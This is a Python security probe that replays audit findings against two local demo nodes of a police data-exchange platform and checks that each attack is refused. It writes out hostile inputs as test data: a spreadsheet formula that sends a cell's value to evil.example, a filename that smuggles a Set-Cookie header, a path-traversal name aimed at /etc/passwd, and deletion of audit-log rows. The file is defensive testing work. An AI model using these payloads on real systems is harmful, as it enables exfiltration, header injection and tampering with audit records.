"""Security probe: the outside probe's findings 1-9 (issue 12), replayed against two real nodes.

    .venv/bin/python bench/security_probe.py [--only 2,4,7,8,9] [--keep]

Finding 10 tries the same classes in the newer modules: a non-member reading a working
group, an author approving their own bulletin, message or nomination, a partner's signed
upsert of our plan action or group task, the DPO-only APIs with a liaison officer's token,
and MISP import bounds.

Starts MA-DGSN and FR-DGPN (tests/support/nodes.py: `jisr serve` + `jisr worker`, demo data,
wired as partners), then tries each attack the way an attacker or a careless user would, over
real HTTP, and prints one line per attempt and a summary:

    finding 2  upload: XLSX with one 3 MB cell            refused (422)
    ...
    tried=46 refused=46 unexpected=0

An attempt is "refused" when the node turned it away (or, for a safeguard such as a
formula-safe export, when the dangerous result did not come out). Exit code 1 when any
attempt was not refused. ``probe_results`` is imported by tests/test_security_probe.py so
CI runs the same checks.
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import re
import sys
import time
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "src"))

import httpx  # noqa: E402
from tests.support.browser import DEMO_PASSWORD as PASSWORD  # noqa: E402
from tests.support.nodes import Node, destroy, start_demo_pair  # noqa: E402

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)


@dataclass
class Attempt:
    finding: int
    what: str
    refused: bool
    detail: str


def _api(node: Node, token: str) -> httpx.Client:
    # Generous: on a loaded machine a refused 60,000-row workbook takes tens of seconds.
    return httpx.Client(
        base_url=f"{node.url}/api/v1", headers={"Authorization": f"Bearer {token}"}, timeout=300
    )


def _xlsx(rows_xml: str) -> bytes:
    """A minimal workbook, written by hand so that a huge one costs nothing to build."""
    ns = "http://schemas.openxmlformats.org"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{ns}/package/2006/content-types">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{ns}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{ns}/spreadsheetml/2006/main" xmlns:r="{ns}/officeDocument/2006/relationships">'
            '<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{ns}/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{ns}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{ns}/spreadsheetml/2006/main"><sheetData>{rows_xml}</sheetData></worksheet>',
        )
    return buffer.getvalue()


def _row(n: int, text: str) -> str:
    return f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _web_login(node: Node, username: str) -> httpx.Client:
    """A browser-like session through the real login form (password and TOTP)."""
    for _attempt in range(3):
        client = httpx.Client(base_url=node.url, timeout=60, follow_redirects=False)
        page = client.get("/accounts/login/")
        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        assert csrf is not None
        answer = client.post(
            "/accounts/login/",
            data={
                "csrfmiddlewaretoken": csrf.group(1),
                "username": username,
                "password": PASSWORD,
                "otp_token": node.totp(username),
            },
            headers={"Referer": f"{node.url}/accounts/login/"},
        )
        if answer.status_code == 302:
            return client
        time.sleep(31)  # the code of this window was used already
    raise AssertionError(f"could not log in as {username}")


# -- the findings ---------------------------------------------------------------------------


def _partner_upsert(
    ma: Node, fr: Node, record_type: str, record_id: str, data: dict[str, Any]
) -> httpx.Response:
    """FR's validly signed ``replica.upsert`` of a record, posted to MA's inbox."""
    from jisr.federation.keys import key_id_for, load_private_key
    from jisr.federation.signing import sign_request

    private = load_private_key(fr.home)
    assert private is not None
    envelope = {
        "id": str(uuid.uuid4()),
        "type": "replica.upsert",
        "version": 1,
        "sender": "FR-DGPN",
        "recipient": "MA-DGSN",
        "created": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        "body": {
            "record_type": record_type,
            "record_id": record_id,
            "version": 1000,
            "owner": "FR-DGPN",
            "body": data,
        },
    }
    body = json.dumps(envelope, separators=(",", ":"), sort_keys=True).encode()
    headers = sign_request(
        method="POST",
        path="/federation/inbox",
        body=body,
        private_key=private,
        key_id=key_id_for(private.public_key()),
        created=int(time.time()),
    )
    return httpx.post(f"{ma.url}/federation/inbox", content=body, headers=headers, timeout=30)


def finding_1(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    """A partner's signed replica.upsert of the receiver's own event must be refused."""
    rows = ma.sql(
        "SELECT e.id FROM events_event e JOIN accounts_agency a ON a.id = e.owner_id"
        " WHERE a.code = 'MA-DGSN' LIMIT 1"
    )
    if not rows:
        return [Attempt(1, "replica.upsert of MA's own event", False, "no own event on MA")]
    event_id = str(rows[0][0])
    answer = _partner_upsert(
        ma,
        fr,
        "events.event",
        event_id,
        {"id": event_id, "owner": "FR-DGPN", "name": "Taken over (probe)"},
    )
    owner = ma.sql(
        "SELECT a.code FROM events_event e JOIN accounts_agency a ON a.id = e.owner_id WHERE e.id = ?",
        (event_id,),
    )
    kept = bool(owner) and owner[0][0] == "MA-DGSN"
    return [
        Attempt(
            1,
            "partner replica.upsert takes over MA's own event",
            answer.status_code == 422 and kept,
            f"{answer.status_code} {answer.json().get('reason', '')},"
            f" owner now {owner[0][0] if owner else 'deleted'}",
        )
    ]


def finding_2(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    api = _api(ma, tokens["ma.officer"])
    cases: list[tuple[str, str, bytes]] = [
        ("XLSX with one 3 MB cell", "m.xlsx", _xlsx(_row(1, "names") + _row(2, "A" * 3_000_000))),
        (
            "XLSX of 60,000 rows",
            "m.xlsx",
            _xlsx(_row(1, "names") + "".join(_row(n, f"P{n} Q") for n in range(2, 60_002))),
        ),
        ("CSV of 25 MB", "m.csv", b"names\n" + b"Nadia Fictive\n" * 1_900_000),
        ("CSV with a 100 KB field", "m.csv", b'names\n"' + b"B" * 100_000 + b'"\n'),
    ]
    out = []
    for what, name, content in cases:
        started = time.monotonic()
        try:
            answer = api.post(
                "/screenings/batch", data={"purpose": "Probe 12"}, files={"file": (name, content)}
            )
        except httpx.HTTPError as exc:
            out.append(Attempt(2, f"upload: {what}", False, type(exc).__name__))
            continue
        seconds = time.monotonic() - started
        out.append(
            Attempt(
                2,
                f"upload: {what}",
                answer.status_code == 422,
                f"{answer.status_code} in {seconds:.1f} s",
            )
        )
    return out


def finding_3(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    answer = httpx.get(f"{ma.url}/accounts/login/", timeout=30)
    csp = answer.headers.get("content-security-policy", "")
    inline = "<script>" in answer.text or " onchange=" in answer.text or " style=" in answer.text
    return [
        Attempt(3, "a page without Content-Security-Policy", "script-src 'self'" in csp, csp[:60]),
        Attempt(
            3,
            "inline script or style in the login page",
            not inline,
            "none" if not inline else "found",
        ),
        # HSTS, the proxy and the login behind TLS: tests/core/test_production_proxy.py (nginx).
    ]


def _batch_and_wait(api: httpx.Client, content: bytes, name: str) -> str:
    answer = api.post(
        "/screenings/batch", data={"purpose": "Probe 12"}, files={"file": (name, content)}
    )
    answer.raise_for_status()
    job = answer.json()["id"]
    for _ in range(120):
        if api.get(f"/screenings/{job}").json()["status"] == "done":
            return str(job)
        time.sleep(0.5)
    raise AssertionError("the batch did not finish")


def finding_4(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    api = _api(ma, tokens["ma.officer"])
    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)", "+1+1", "-2+3"]
    lines = "".join(json.dumps({"names": [a], "id": f"r{i}"}) + "\n" for i, a in enumerate(attacks))
    job = _batch_and_wait(api, lines.encode(), "f.jsonl")
    web = _web_login(ma, "ma.officer")
    text = web.get(f"/wanted/screening/{job}/results.csv").text
    import csv

    names = [row[2] for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))][1:]
    return [
        Attempt(
            4,
            f"screening CSV cell {attack[:24]!r}",
            ("'" + attack) in names,
            "quoted" if ("'" + attack) in names else "verbatim",
        )
        for attack in attacks
    ]


def finding_5(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    """Deleting the last audit rows and the chain head must not pass verification."""
    if ma.database_url:
        # SQLite has no trigger; on PostgreSQL an insider with the table owner's rights drops
        # the append-only trigger first (jisr.audit.trigger_sql).
        ma.sql("DROP TRIGGER IF EXISTS audit_auditentry_append_only ON audit_auditentry")
    last = ma.sql("SELECT MAX(id) FROM audit_auditentry")[0][0]
    try:
        ma.sql("DELETE FROM audit_auditentry WHERE id > ?", (int(last) - 3,))
        ma.sql("DELETE FROM audit_auditchainhead")
    except Exception as exc:  # a trigger refused the deletion: that is a refusal too
        return [Attempt(5, "truncate the audit log and its head", True, f"refused: {exc}")]
    result = ma.jisr("audit", "verify", check=False)
    return [
        Attempt(
            5,
            "truncate the audit log and its head",
            result.returncode != 0,
            f"verify exit {result.returncode}",
        )
    ]


def _release_if_held(node: Node, message: dict[str, Any], releaser: str) -> dict[str, Any]:
    """A message the request desk holds (personal data) leaves only once a second person
    releases it: the probe releases it through the supervisor's API, as a desk would."""
    if message.get("release_status") != "pending":
        return message
    answer = _api(node, node.token(releaser)).post(
        f"/messages/{message['id']}/release", json={"reason": "Checked by the desk (probe)"}
    )
    answer.raise_for_status()
    return dict(answer.json())


def _wait_for(api: httpx.Client, path: str, seconds: float = 90) -> httpx.Response:
    """GET until the path exists on the receiving node (the envelope has arrived)."""
    deadline = time.monotonic() + seconds
    answer = api.get(path)
    while answer.status_code == 404 and time.monotonic() < deadline:
        time.sleep(0.5)
        answer = api.get(path)
    return answer


def _fr_h3_message(fr: Node, tokens: dict[str, str]) -> tuple[dict[str, Any], str]:
    """An FR message marked H3, with personal data (so the desk holds it), in a case with MA."""
    fr_api = _api(fr, tokens["fr.officer"])
    case = fr_api.post(
        "/cases", json={"title": "Probe H3 (test)", "crime_area": "fraud", "partners": ["MA-DGSN"]}
    )
    case.raise_for_status()
    message = fr_api.post(
        f"/cases/{case.json()['id']}/messages",
        json={
            "kind": "request_information",
            "subject": "H3 probe",
            "body": "Not for third parties.",
            "handling_code": "H3",
            "handling_restriction": "Not for third parties, not for export.",
            "contains_personal_data": True,
            "source_reliability": "B",
            "information_accuracy": "2",
            "priority": "urgent",
            "language": "fr",
        },
    )
    if message.status_code != 201:
        raise AssertionError(f"H3 message: {message.status_code} {message.text[:200]}")
    return dict(message.json()), str(case.json()["id"])


def _third_partner(node: Node) -> str:
    """A third agency registered as a partner of ``node`` (no node behind it): returning an
    item to the agency that provided it is allowed, passing it to a third one is the attack."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from jisr.federation.keys import public_key_b64

    code = "ES-CNP"
    if not node.sql(
        "SELECT 1 FROM federation_partner p JOIN accounts_agency a"
        " ON a.id = p.agency_id WHERE a.code = ?",
        (code,),
    ):
        key = public_key_b64(Ed25519PrivateKey.generate().public_key())
        node.jisr(
            "partner", "add", "--agency", code, "--url", "http://127.0.0.1:9", "--public-key", key
        )
    return code


def finding_6(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    """An FR message marked H3 must not be forwarded, exported or copied by MA."""
    sent, _case = _fr_h3_message(fr, tokens)
    out = []
    if sent.get("release_status") == "pending":
        own = _api(fr, tokens["fr.officer"]).post(
            f"/messages/{sent['id']}/release", json={"reason": "My own message (probe)"}
        )
        out.append(
            Attempt(
                6,
                "the author releases their own held message",
                own.status_code == 403,
                str(own.status_code),
            )
        )
    message = _release_if_held(fr, sent, "fr.supervisor")
    ma_api = _api(ma, tokens["ma.officer"])
    arrived = _wait_for(ma_api, f"/messages/{message['id']}")
    if arrived.status_code != 200:
        out.append(
            Attempt(
                6,
                "the H3 message reaches MA",
                False,
                f"{arrived.status_code}, release {message.get('release_status')}",
            )
        )
        return out
    answer = ma_api.get(f"/messages/{message['id']}/export")
    out.append(
        Attempt(
            6,
            "export an H3 message of the partner",
            answer.status_code == 403,
            str(answer.status_code),
        )
    )
    answer = ma_api.post(
        f"/messages/{message['id']}/forward",
        json={"agency": _third_partner(ma), "note": "Probe"},
    )
    out.append(
        Attempt(
            6,
            "forward an H3 message of the partner",
            answer.status_code == 403,
            str(answer.status_code),
        )
    )
    answer = ma_api.post(f"/messages/{message['id']}/copy", json={"case_id": _ma_case(ma_api)})
    out.append(
        Attempt(
            6,
            "copy an H3 message into another case",
            answer.status_code == 403,
            str(answer.status_code),
        )
    )
    return out


def _ma_case(api: httpx.Client) -> str:
    case = api.post(
        "/cases", json={"title": "Probe (test)", "crime_area": "fraud", "partners": ["FR-DGPN"]}
    )
    case.raise_for_status()
    return str(case.json()["id"])


def _send_attachment(api: httpx.Client, case_id: str, filename: str, data: bytes) -> httpx.Response:
    return api.post(
        f"/cases/{case_id}/messages",
        json={
            "kind": "request_information",
            "subject": "Probe",
            "body": "Probe attachment",
            "handling_code": "H0",
            "source_reliability": "B",
            "information_accuracy": "2",
            "priority": "urgent",
            "language": "fr",
            "attachments": [
                {"filename": filename, "content_base64": base64.b64encode(data).decode()}
            ],
        },
    )


def finding_7(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    api = _api(ma, tokens["ma.officer"])
    case_id = _ma_case(api)
    out = []
    for name in ['a"\r\nSet-Cookie: pwn=1\r\nX: .txt', "../../../../etc/passwd"]:
        sent = _send_attachment(api, case_id, name, PNG)
        attachment = sent.json()["attachments"][0]
        download = api.get(f"/messages/{sent.json()['id']}/attachments/{attachment['id']}")
        safe = "/" not in attachment["filename"] and "\r" not in attachment["filename"]
        out.append(
            Attempt(
                7,
                f"attachment named {name[:20]!r}",
                safe
                and download.status_code == 200
                and "pwn" not in download.headers.get("set-cookie", ""),
                f"stored {attachment['filename']!r}, download {download.status_code}",
            )
        )
    return out


def finding_8(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    out = []
    expired = ma.token("ma.dpo")
    ma.sql(
        "UPDATE accounts_apitoken SET expires_at = '2000-01-01 00:00:00' WHERE prefix = ?",
        (expired[:12],),
    )
    answer = _api(ma, expired).get("/me")
    out.append(Attempt(8, "an expired token", answer.status_code == 401, str(answer.status_code)))
    locked = ma.token("ma.supervisor")
    client = httpx.Client(base_url=ma.url, timeout=30)
    for _ in range(5):
        page = client.get("/accounts/login/")
        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        client.post(
            "/accounts/login/",
            data={
                "csrfmiddlewaretoken": csrf.group(1) if csrf else "",
                "username": "ma.supervisor",
                "password": "wrong password",
                "otp_token": "000000",
            },
            headers={"Referer": f"{ma.url}/accounts/login/"},
        )
    answer = _api(ma, locked).get("/me")
    out.append(
        Attempt(
            8, "a token of a locked-out account", answer.status_code == 401, str(answer.status_code)
        )
    )
    read_only = ma.jisr("token", "create", "ma.officer", "--scope", "read").stdout.split()[-1]
    answer = _api(ma, read_only).post(
        "/screenings", json={"purpose": "Probe", "subjects": [{"names": ["A B"]}]}
    )
    out.append(
        Attempt(8, "a read-only token writes", answer.status_code == 403, str(answer.status_code))
    )
    return out


def finding_9(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    api = _api(ma, tokens["ma.officer"])
    out = []
    deep = b'{"names": ["A B"]}\n' + b"[" * 100_000 + b"]" * 100_000 + b"\n"
    answer = api.post(
        "/screenings/batch", data={"purpose": "Probe 12"}, files={"file": ("d.jsonl", deep)}
    )
    out.append(
        Attempt(9, "deeply nested JSONL line", answer.status_code == 422, str(answer.status_code))
    )
    big = PNG + b"\0" * (9 * 1024 * 1024 - len(PNG))
    sent = _send_attachment(api, _ma_case(api), "scan.png", big)
    # A refusal of a legitimate 9 MB file is the bug; "refused" here means the bug is gone.
    out.append(
        Attempt(9, "a 9 MB attachment is accepted", sent.status_code == 201, str(sent.status_code))
    )
    alerts = api.get("/alerts", params={"owner": "own", "status": "active"}).json()
    items = alerts["items"] if isinstance(alerts, dict) else alerts
    if items:
        for body in ("5", '"text"', "null"):
            answer = api.post(
                f"/alerts/{items[0]['id']}/withdraw",
                content=body,
                headers={"Content-Type": "application/json"},
            )
            out.append(
                Attempt(
                    9,
                    f"withdraw with body {body}",
                    answer.status_code == 422,
                    str(answer.status_code),
                )
            )
    document = httpx.get(f"{ma.url}/api/v1/openapi.json", timeout=30).json()
    undeclared = sum(
        1
        for operations in document["paths"].values()
        for operation in operations.values()
        for status in ("401", "403", "404", "422")
        if status not in operation["responses"]
    )
    out.append(
        Attempt(
            9,
            "OpenAPI operations without 401/403/404/422",
            undeclared == 0,
            f"{undeclared} missing",
        )
    )
    client = httpx.Client(base_url=ma.url, timeout=30)
    statuses = []
    # Four failures per account (below the account lockout), over six accounts: the
    # 21st failure from one address is refused whatever the account.
    for n in range(24):
        page = client.get("/accounts/login/")
        csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
        statuses.append(
            client.post(
                "/accounts/login/",
                data={
                    "csrfmiddlewaretoken": csrf.group(1) if csrf else "",
                    "username": f"probe.nobody{n // 4}",
                    "password": "wrong password",
                    "otp_token": "000000",
                },
                headers={"Referer": f"{ma.url}/accounts/login/"},
            ).status_code
        )
    first = statuses.index(429) + 1 if 429 in statuses else None
    out.append(
        Attempt(
            9,
            "one address fails 24 logins over 6 accounts",
            # At the 21st failure from the address at the latest (earlier findings' failed
            # logins count too), and not because one account was locked (4 per account).
            first is not None and first <= 21 and set(statuses[: first - 1]) == {200},
            f"first 429 at {first}",
        )
    )
    return out


def _status(what: str, answer: httpx.Response, expected: tuple[int, ...]) -> Attempt:
    return Attempt(10, what, answer.status_code in expected, str(answer.status_code))


def _non_member_reads_a_group(node: Node, member: str, outsider: str) -> list[Attempt]:
    """A user of the agency who is not in the working group (API and page)."""
    groups = _api(node, node.token(member)).get("/groups").json()["items"]
    if not groups:
        return [Attempt(10, f"{node.agency}: a working group to read", False, "none")]
    group_id = groups[0]["id"]
    api = _api(node, node.token(outsider))
    out = [
        _status(
            f"{node.agency}: non-member reads a group (API)",
            api.get(f"/groups/{group_id}"),
            (403, 404),
        ),
        _status(
            f"{node.agency}: non-member reads its members (API)",
            api.get(f"/groups/{group_id}/members"),
            (403, 404),
        ),
    ]
    listed = api.get("/groups").json()["items"]
    out.append(
        Attempt(
            10,
            f"{node.agency}: non-member sees the group in the list",
            all(g["id"] != group_id for g in listed),
            f"{len(listed)} listed",
        )
    )
    page = _web_login(node, outsider).get(f"/groups/{group_id}/")
    out.append(_status(f"{node.agency}: non-member opens the group page", page, (403, 404)))
    return out


def _own_bulletin_approved(ma: Node) -> Attempt:
    api = _api(ma, ma.token("ma.supervisor"))
    made = api.post(
        "/bulletins",
        json={
            "kind": "early_warning",
            "title": "Probe bulletin (test)",
            "summary": "Fictitious early warning.",
            "recipients": ["FR-DGPN"],
        },
    )
    made.raise_for_status()
    bulletin = made.json()["id"]
    api.post(f"/bulletins/{bulletin}/submit")
    answer = api.post(f"/bulletins/{bulletin}/approve")
    status = api.get(f"/bulletins/{bulletin}").json().get("status")
    return Attempt(
        10,
        "the author approves their own bulletin",
        answer.status_code == 403 and status != "released",
        f"{answer.status_code}, status {status}",
    )


def _own_nomination_approved(ma: Node) -> Attempt:
    api = _api(ma, ma.token("ma.supervisor"))
    sessions = api.get("/training/sessions", params={"limit": 100}).json()["items"]
    for session in sessions:
        if session.get("status") != "open":
            continue
        made = api.post(
            f"/training/sessions/{session['id']}/nominations",
            json={
                "participant": {"name": "Karim Fictif", "rank": "Commissaire", "unit": "PJ Rabat"}
            },
        )
        if made.status_code != 201:
            continue
        answer = api.post(f"/training/nominations/{made.json()['id']}/approve", json={})
        return _status("the nominator approves their own nomination", answer, (403,))
    return Attempt(10, "the nominator approves their own nomination", False, "no open session")


def _partner_changes_own_records(ma: Node, fr: Node) -> list[Attempt]:
    """FR's signed upserts of MA's own plan action and group task: 422 not-owner, unchanged."""
    out = []
    for record_type, query, check in (
        (
            "plan.action",
            "SELECT a.id FROM plan_action a JOIN accounts_agency g ON g.id = a.lead_id"
            " WHERE g.code = 'MA-DGSN' LIMIT 1",
            "SELECT g.code, a.version FROM plan_action a JOIN accounts_agency g"
            " ON g.id = a.lead_id WHERE a.id = ?",
        ),
        (
            "groups.task",
            "SELECT t.id FROM groups_task t JOIN accounts_agency g ON g.id = t.owner_id"
            " WHERE g.code = 'MA-DGSN' LIMIT 1",
            "SELECT g.code, t.version FROM groups_task t JOIN accounts_agency g"
            " ON g.id = t.owner_id WHERE t.id = ?",
        ),
    ):
        rows = ma.sql(query)
        if not rows:
            out.append(Attempt(10, f"partner upsert of MA's own {record_type}", False, "no row"))
            continue
        record_id = str(rows[0][0])
        before = ma.sql(check, (record_id,))
        answer = _partner_upsert(
            ma,
            fr,
            record_type,
            record_id,
            {"id": record_id, "owner": "FR-DGPN", "status": "done", "title": "Taken over (probe)"},
        )
        after = ma.sql(check, (record_id,))
        reason = answer.json().get("reason") if answer.status_code < 500 else ""
        out.append(
            Attempt(
                10,
                f"partner upsert of MA's own {record_type}",
                answer.status_code == 422 and reason == "not-owner" and after == before,
                f"{answer.status_code} {reason}, {'unchanged' if after == before else 'CHANGED'}",
            )
        )
    return out


def _dpo_only(ma: Node, tokens: dict[str, str]) -> list[Attempt]:
    api = _api(ma, tokens["ma.officer"])  # a liaison officer (and analyst), not the DPO
    return [
        _status(
            "a liaison officer asks the DPO's person search",
            api.get("/dpo/person", params={"name": "Karim Fictif"}),
            (403,),
        ),
        _status("a liaison officer lists the retention rules", api.get("/retention"), (403,)),
        _status(
            "a liaison officer changes a retention rule",
            api.put("/retention/exchange.case_closed", json={"days": 365}),
            (403,),
        ),
    ]


def _misp_bounds(ma: Node, tokens: dict[str, str]) -> list[Attempt]:
    api = _api(ma, tokens["ma.officer"])
    headers = {"Content-Type": "application/json"}
    out = []
    for what, raw in (
        (
            "MISP import nested 100,000 deep",
            b'{"info": "x", "Attribute": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        ),
        ("MISP import of 3 MB", b'{"info": "' + b"x" * 3_000_000 + b'"}'),
        (
            "MISP import of 20 MB",
            b'{"info": "x", "Attribute": ['
            + b'{"type": "domain", "value": "a.example"},' * 480_000
            + b"{}]}",
        ),
    ):
        answer = api.post("/bulletins/import-misp", content=raw, headers=headers)
        out.append(Attempt(10, what, 400 <= answer.status_code < 500, str(answer.status_code)))
    return out


def finding_10(ma: Node, fr: Node, tokens: dict[str, str]) -> list[Attempt]:
    """The same classes in the new modules: groups, risks, training, privacy, plan."""
    out = _non_member_reads_a_group(ma, "ma.officer", "ma.analyst")
    out += _non_member_reads_a_group(fr, "fr.officer", "fr.analyst")
    out.append(_own_bulletin_approved(ma))
    out.append(_own_nomination_approved(ma))
    out += _partner_changes_own_records(ma, fr)
    out += _dpo_only(ma, tokens)
    out += _misp_bounds(ma, tokens)
    return out


FINDINGS: dict[int, Callable[[Node, Node, dict[str, str]], list[Attempt]]] = {
    1: finding_1,
    2: finding_2,
    3: finding_3,
    4: finding_4,
    5: finding_5,
    6: finding_6,
    7: finding_7,
    8: finding_8,
    9: finding_9,
    10: finding_10,
}


def probe_results(ma: Node, fr: Node, findings: list[int]) -> list[Attempt]:
    """Run the chosen findings' attempts; an attempt that crashed counts as not refused."""
    tokens = {"ma.officer": ma.token("ma.officer"), "fr.officer": fr.token("fr.officer")}
    results: list[Attempt] = []
    for number in findings:
        try:
            results.extend(FINDINGS[number](ma, fr, tokens))
        except Exception as exc:  # the probe reports, it does not stop
            results.append(
                Attempt(number, "the probe itself", False, f"{type(exc).__name__}: {exc}"[:200])
            )
    return results


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    # Finding 5 tampers with the audit log, after which writes fail: it runs last. Finding 10
    # logs in through the form and uses ma.supervisor: it runs before 8 (which locks that
    # account out) and 9 (which throttles the probe's address).
    parser.add_argument("--only", default="1,2,3,4,6,10,7,8,9,5", help="comma-separated findings")
    parser.add_argument("--keep", action="store_true", help="keep the nodes' folders (logs)")
    args = parser.parse_args()
    findings = [int(n) for n in args.only.split(",")]
    ma, fr = start_demo_pair()
    try:
        results = probe_results(ma, fr, findings)
    finally:
        if args.keep:
            ma.stop()
            fr.stop()
            print(f"nodes kept in {ma.home} and {fr.home}")
        else:
            destroy(ma)
            destroy(fr)
    for attempt in results:
        verdict = "refused" if attempt.refused else "NOT REFUSED"
        print(f"finding {attempt.finding}  {attempt.what:<52} {verdict:<12} ({attempt.detail})")
    unexpected = sum(1 for a in results if not a.refused)
    print(f"tried={len(results)} refused={len(results) - unexpected} unexpected={unexpected}")
    return 1 if unexpected else 0


if __name__ == "__main__":
    sys.exit(main())
